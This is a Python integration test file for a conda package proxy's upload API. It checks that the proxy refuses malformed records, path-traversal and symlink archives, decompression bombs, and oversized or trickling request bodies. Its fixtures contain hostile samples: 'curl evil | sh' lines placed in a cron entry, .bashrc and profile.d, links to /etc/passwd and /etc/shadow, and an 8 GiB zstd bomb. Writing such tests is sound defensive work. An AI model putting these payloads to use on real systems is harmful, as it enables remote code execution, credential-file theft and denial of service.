"""Hostile uploaders against a real proxy process: records that would break the channel for
everyone, archives that reach outside the package or unpack to gigabytes, bodies that ignore
the size limit or trickle. Each refusal: the right status, a JSON error naming what was wrong,
nothing stored, no temp file left (in the cache or in $TMPDIR), one warning, no traceback."""

from __future__ import annotations

import json
import select
import socket
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.hostile.archives import (
    STEM,
    Member,
    conda,
    conda_bytes,
    index_json,
    index_member,
    tar_bytes,
    tar_bz2,
    zstd,
    zstd_stream,
)
from tests.support.channel import Pkg, build_package
from tests.support.processes import ROOT, Proxy, Upstream, write_config

pytestmark = pytest.mark.integration

WRITE = "ci-write-token-1"
LIMIT = 5 * 2**20  # uploads.max_upload_size
SYM, HARD = tarfile.SYMTYPE, tarfile.LNKTYPE


@dataclass
class Env:
    proxy: Proxy
    cache: Path
    tmpdir: Path  # the proxy's $TMPDIR

    def leftovers(self) -> list[Path]:
        """Everything an upload could leave behind: upload blobs, temp files, spooled parts."""
        places = (self.cache / "uploads" / "blobs", self.cache / "tmp", self.tmpdir)
        return sorted(p for d in places for p in d.rglob("*") if p.is_file())

    def listing(self) -> list[str]:
        r = httpx.get(f"{self.proxy.url}/api/channels/local/packages")
        return sorted(f"{p['subdir']}/{p['filename']}" for p in r.json()["packages"])

    def delete(self, path: str) -> None:
        url = f"{self.proxy.url}/api/channels/local/packages/{path}"
        httpx.delete(url, headers={"x-api-key": WRITE}).raise_for_status()

    def warnings(self) -> list[dict[str, Any]]:
        return [e for e in self.proxy.events() if e.get("level") in ("warning", "error")]


@pytest.fixture(scope="module")
def env(channel_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    base = tmp_path_factory.mktemp("hostile-uploads")
    upstream = Upstream(channel_dir).start()
    tmpdir = base / "tmpdir"
    tmpdir.mkdir()
    config = write_config(
        base / "proxy.toml",
        base / "cache",
        {"local": {"upstream": upstream.url}},
        extra=f"[uploads]\nmax_upload_size = {LIMIT}\nread_timeout = 1\n",
        tokens={"ci": {"token": WRITE, "roles": {"local": "write"}}},
    )
    proxy = Proxy(config, env={"TMPDIR": str(tmpdir)}).start()
    # One accepted upload: linux-64 is served merged, the code path a bad record would break.
    good = build_package(Pkg("internal-tool", "1.0", "h0", "linux-64"), base / "w", base / "out")
    assert post(proxy, good.name, good.read_bytes()).status_code == 201
    yield Env(proxy, base / "cache", tmpdir)
    proxy.stop()
    upstream.stop()


def post(proxy: Proxy, filename: str, data: bytes, **params: str) -> httpx.Response:
    return httpx.post(
        f"{proxy.url}/api/channels/local/upload/{filename}",
        content=data,
        params=params,
        headers={"x-api-key": WRITE},
        timeout=60,
    )


def refused(env: Env, act: Callable[[], tuple[int, bytes]], status: int, *says: str) -> dict:
    """Run `act` (an upload); check it was refused the way every refusal must be."""
    before_files, before_listing = env.leftovers(), env.listing()
    before_warnings = len(env.warnings())
    try:
        got, body = act()
        assert got == status, body[:1000]
        error = json.loads(body)
        assert error["status"] == status
        for text in says:
            assert text in error["error"], error
        assert env.leftovers() == before_files, "nothing stored, no temp file left"
        assert env.listing() == before_listing
        new = env.warnings()[before_warnings:]
        assert [e["event"] for e in new] == ["upload refused"], new
        assert new[0]["status"] == status
        assert "Traceback" not in env.proxy.log()
    finally:  # an upload wrongly accepted must not change what the next test sees
        for path in set(env.listing()) - set(before_listing):
            env.delete(path)
    return dict(error)


def upload(env: Env, filename: str, data: bytes) -> Callable[[], tuple[int, bytes]]:
    def act() -> tuple[int, bytes]:
        r = post(env.proxy, filename, data)
        return r.status_code, r.content

    return act


def channel_still_installs(env: Env, workdir: Path) -> None:
    """py-rattler installs an unrelated package (shards and repodata.json); each subdir's whole
    repodata.json parses."""
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "tests.hostile.channel_check",
            f"{env.proxy.url}/local",
            str(workdir),
            "datatool >=1",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=180,
    )
    lines = [line for line in done.stdout.splitlines() if line.startswith("{")]
    assert lines, done.stderr[-3000:]
    result = json.loads(lines[-1])
    assert result["ok"], result
    for names in result["installed"].values():
        assert "datatool" in names


# --- records ---------------------------------------------------------------------------------

BAD_RECORDS: list[tuple[str, str, dict[str, Any]]] = [
    ("build_number", STEM, {"build_number": 2**70}),  # msgpack cannot encode it: shards 500
    ("build_number", STEM, {"build_number": -1}),
    ("build_number", STEM, {"build_number": True}),
    ("build_number", STEM, {"build_number": 1.5}),
    ("timestamp", STEM, {"timestamp": 2**70}),
    ("timestamp", STEM, {"timestamp": 2**53}),
    ("timestamp", STEM, {"timestamp": float("nan")}),  # Python's json.loads reads NaN
    ("timestamp", STEM, {"timestamp": float("inf")}),
    ("depends", STEM, {"depends": "python"}),
    ("depends", STEM, {"depends": [1]}),
    ("depends", STEM, {"depends": ["numpy ==="]}),
    ("depends", STEM, {"depends": ["*"]}),
    ("constrains", STEM, {"constrains": ["numpy >=1"] * 5000}),
    ("noarch", STEM, {"noarch": "foo"}),
    ("track_features", STEM, {"track_features": 1}),
    ("features", STEM, {"features": ["mkl"]}),
    ("license", STEM, {"license": 1}),
    ("license", STEM, {"license": "\ud800"}),
    ("platform", STEM, {"platform": 1}),
    ("python_site_packages_path", STEM, {"python_site_packages_path": "/etc"}),
    ("run_exports", STEM, {"run_exports": {"weak": "libfoo"}}),
    ("legacy_bz2_md5", STEM, {"legacy_bz2_md5": "x"}),
    ("purls", STEM, {"purls": "x"}),
    ("url", STEM, {"url": "https://evil.example/hostile-1.0-h0.conda"}),
    ("x_nested", STEM, {"x_nested": [[[[[[[[1]]]]]]]]}),
    ("x_bigint", STEM, {"x_bigint": 2**64}),
    ("version", "hostile-1.-h0", {}),  # rattler refuses the version: repodata.json fails whole
    ("name", "hostile+x-1.0-h0", {}),
]


@pytest.mark.parametrize(
    ("field", "stem", "fields"),
    BAD_RECORDS,
    ids=[f"{field}-{i}" for i, (field, _, _) in enumerate(BAD_RECORDS)],
)
def test_a_record_field_clients_cannot_read_is_refused_and_the_channel_still_installs(
    env, tmp_path, field, stem, fields
):
    data = conda(index=index_json(stem, **fields), stem=stem)
    error = refused(env, upload(env, f"{stem}.conda", data), 400, f"'{field}'")
    assert error["field"] == field
    channel_still_installs(env, tmp_path)


# --- archives --------------------------------------------------------------------------------

MEMBER_ATTACKS: dict[str, list[Member]] = {
    "symlink-after-index-json-to-etc-passwd": [
        Member("lib/x", type=SYM, linkname="../../../etc/passwd")
    ],
    "absolute-symlink": [Member("lib/x", type=SYM, linkname="/etc/passwd")],
    "absolute-path": [Member("/etc/cron.d/evil", b"* * * * * root sh -c 'curl evil|sh'")],
    "dotdot-path": [Member("lib/../../../.bashrc", b"curl evil | sh")],
    "hardlink-to-etc-shadow": [Member("lib/shadow", type=HARD, linkname="/etc/shadow")],
    "hardlink-outside-the-package": [Member("lib/x", type=HARD, linkname="etc/shadow")],
    "character-device": [Member("dev/mem", type=tarfile.CHRTYPE)],
    "fifo": [Member("lib/fifo", type=tarfile.FIFOTYPE)],
    "symlink-chain-climbing-out": [
        Member("p/q/s", type=SYM, linkname="../.."),
        Member("t", type=SYM, linkname="p/q/s/.."),
    ],
    "write-through-a-symlinked-dir": [
        Member("etc", type=SYM, linkname="lib"),
        Member("etc/profile.d/evil.sh", b"curl evil | sh"),
    ],
    "second-index-json": [index_member(index_json(depends=["evil"]))],
}


@pytest.mark.parametrize("where", ["info-tar", "pkg-tar", "tar-bz2"])
@pytest.mark.parametrize("attack", sorted(MEMBER_ATTACKS))
def test_members_anywhere_in_the_archive_cannot_reach_outside_the_package(env, attack, where):
    members = MEMBER_ATTACKS[attack]
    if where == "tar-bz2":
        filename, data = f"{STEM}.tar.bz2", tar_bz2(members)
    else:
        filename = f"{STEM}.conda"
        data = conda(*((members, ()) if where == "info-tar" else ((), members)))
    error = refused(env, upload(env, filename, data), 400)
    assert error["member"] in {m.name for m in members} | {"info/index.json"}, error


def good_info() -> bytes:
    return zstd(tar_bytes([index_member(index_json())]))


CONTAINER_ATTACKS = {
    "extra-zip-member": conda_bytes(good_info(), zstd(tar_bytes([])), extra=[("run.sh", b"x")]),
    "dotdot-zip-member": conda_bytes(good_info(), zstd(tar_bytes([])), extra=[("../x", b"x")]),
    "deflated-zip-members": conda_bytes(
        good_info(), zstd(tar_bytes([])), compression=zipfile.ZIP_DEFLATED
    ),
    "no-pkg-tarball": conda_bytes(
        good_info(), b"", names=("metadata.json", f"info-{STEM}.tar.zst", "other.bin")
    ),
    "members-hidden-after-a-damaged-header": conda_bytes(
        good_info(),
        zstd(
            tar_bytes([Member("a", b"x")], end=b"\xff" * 512)
            + tar_bytes([Member("../../../etc/evil", b"x")])
        ),
    ),
    "truncated-zstd-in-a-valid-zip": conda_bytes(
        good_info(), zstd(tar_bytes([Member("a", bytes(range(256)) * 64)]))[:200]
    ),
}


@pytest.mark.parametrize("attack", sorted(CONTAINER_ATTACKS))
def test_a_conda_zip_holds_only_its_three_whole_members(env, attack):
    refused(env, upload(env, f"{STEM}.conda", CONTAINER_ATTACKS[attack]), 400)


@pytest.fixture(scope="module")
def eight_gib_bomb() -> bytes:
    """A ~263 KB .conda whose pkg tarball holds one 8 GiB member of zeros."""
    head = tar_bytes([Member("share/blob", declared=8 * 2**30)], end=b"")
    chunks = iter([head, *(bytes(8 * 2**20) for _ in range(1024)), bytes(1024)])
    return conda_bytes(good_info(), zstd_stream(chunks))


def test_an_8_gib_member_in_a_small_conda_is_refused_in_well_under_a_second(env, eight_gib_bomb):
    assert len(eight_gib_bomb) < 300_000
    started = time.monotonic()
    error = refused(
        env, upload(env, f"{STEM}.conda", eight_gib_bomb), 413, "declares 8589934592 bytes"
    )
    assert time.monotonic() - started < 1.0
    assert error["member"] == "share/blob"


def test_zeros_after_the_end_of_the_tarball_count_against_the_budget(env):
    """Headers can be honest and the stream still huge: decompressed bytes are counted too."""
    pkg = zstd_stream(iter([tar_bytes([Member("a", b"x")]), *(bytes(2**20) for _ in range(400))]))
    refused(env, upload(env, f"{STEM}.conda", conda_bytes(good_info(), pkg)), 413, "budget")


# --- bodies ----------------------------------------------------------------------------------


def raw_exchange(env: Env, head: bytes, body: Iterator[bytes], pace: float = 0.0) -> tuple:
    """Send `head`, then body pieces (each after `pace` seconds without an answer) until the
    proxy answers or the body ends; return (status, body, bytes of body sent before the
    answer)."""
    sock = socket.create_connection(("127.0.0.1", env.proxy.port), timeout=30)
    sent = 0
    try:
        sock.sendall(head)
        for i, piece in enumerate(body):
            readable, _, _ = select.select([sock], [], [], pace if i else 0)
            if readable:
                break
            try:
                sock.sendall(piece)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += len(piece)
        response = b""
        deadline = time.monotonic() + 10
        while (left := deadline - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                data = sock.recv(65536)
            except (ConnectionResetError, TimeoutError):
                break
            if not data:
                break
            response += data
            if b"\r\n\r\n" in response and _complete(response):
                break
    finally:
        sock.close()
    head_part, _, payload = response.partition(b"\r\n\r\n")
    status = int(head_part.split(b" ", 2)[1]) if head_part else 0
    return status, payload, sent


def _complete(response: bytes) -> bool:
    head, _, payload = response.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            return len(payload) >= int(line.split(b":", 1)[1])
    return False


def chunked(pieces: Iterator[bytes]) -> Iterator[bytes]:
    for piece in pieces:
        yield b"%x\r\n%s\r\n" % (len(piece), piece)
    yield b"0\r\n\r\n"


BOUNDARY = b"hostile-boundary"


def multipart_head(filename: str) -> bytes:
    return (
        b"--" + BOUNDARY + b"\r\n"
        b'Content-Disposition: form-data; name="files"; filename="' + filename.encode() + b'"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n"
    )


def request_head(route: str, framing: bytes) -> bytes:
    path, content_type = {
        "upload": (f"/api/channels/local/upload/{STEM}.conda", b"application/octet-stream"),
        "files": ("/api/channels/local/files", b"multipart/form-data; boundary=" + BOUNDARY),
    }[route]
    return (
        b"POST "
        + path.encode()
        + b" HTTP/1.1\r\nHost: proxy\r\nX-API-Key: "
        + WRITE.encode()
        + b"\r\nContent-Type: "
        + content_type
        + b"\r\n"
        + framing
        + b"\r\n"
    )


def endless_body(route: str, total: int) -> Iterator[bytes]:
    if route == "files":
        yield multipart_head(f"{STEM}.conda")
    for _ in range(total // 2**20):
        yield bytes(2**20)
    if route == "files":
        yield b"\r\n--" + BOUNDARY + b"--\r\n"


@pytest.mark.parametrize("route", ["upload", "files"])
def test_a_chunked_body_without_content_length_stops_at_max_upload_size(env, route):
    """Before: request.form() spooled the whole chunked multipart body (163 MiB past a 5 MiB
    limit) before anything counted it."""

    def act() -> tuple[int, bytes]:
        head = request_head(route, b"Transfer-Encoding: chunked\r\n")
        status, payload, sent = raw_exchange(env, head, chunked(endless_body(route, 48 * 2**20)))
        # Socket buffers absorb a few MiB; the proxy must not have read on to the end.
        assert sent < LIMIT + 16 * 2**20, f"the client sent {sent} bytes before any answer"
        return status, payload

    refused(env, act, 413, "max_upload_size")


@pytest.mark.parametrize("route", ["upload", "files"])
def test_a_content_length_over_the_limit_is_refused_before_reading(env, route):
    def act() -> tuple[int, bytes]:
        head = request_head(route, b"Content-Length: %d\r\n" % (LIMIT + 1))
        body = iter([*[bytes(2**20)] * 5, b"x"])
        status, payload, sent = raw_exchange(env, head, body, pace=0.5)
        assert sent <= 2**20, f"the client sent {sent} bytes before any answer"
        return status, payload

    refused(env, act, 413, "max_upload_size")


@pytest.mark.parametrize("route", ["upload", "files"])
def test_a_trickling_body_is_cut_after_read_timeout(env, route):
    """headers, then a byte every 3 s: with read_timeout = 1 the proxy answers 408."""
    first = multipart_head(f"{STEM}.conda") if route == "files" else b"P"

    def trickle() -> Iterator[bytes]:
        yield first
        for _ in range(4):  # 12 s at most, then the client gives up and the test fails
            yield b"K"

    def act() -> tuple[int, bytes]:
        head = request_head(route, b"Content-Length: 100000\r\n")
        started = time.monotonic()
        status, payload, _ = raw_exchange(env, head, trickle(), pace=3.0)
        assert time.monotonic() - started < 8
        return status, payload

    error = refused(env, act, 408, "read_timeout")
    assert error["read_timeout"] == 1
